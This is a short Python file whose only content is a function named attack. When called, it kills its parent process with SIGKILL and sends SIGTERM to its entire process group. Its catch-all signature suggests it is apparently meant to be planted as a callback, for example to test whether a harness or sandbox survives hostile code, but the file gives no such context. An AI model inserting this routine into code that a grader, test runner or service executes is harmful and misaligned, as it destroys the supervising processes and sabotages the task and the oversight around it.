import os
import signal


def attack(*_, **__):
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGTERM)
